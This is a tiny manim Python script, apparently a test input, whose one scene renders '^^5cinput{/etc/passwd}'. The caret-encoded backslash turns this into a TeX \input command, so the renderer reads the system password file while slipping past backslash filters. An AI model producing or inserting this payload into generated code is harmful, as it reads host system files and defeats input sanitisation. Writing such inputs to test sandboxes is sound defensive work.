# writes TeX's backslash otherwise
from manim import *


class GeneratedScene(Scene):
    def construct(self):
        self.add(MathTex("^^5cinput{/etc/passwd}"))
        self.wait()
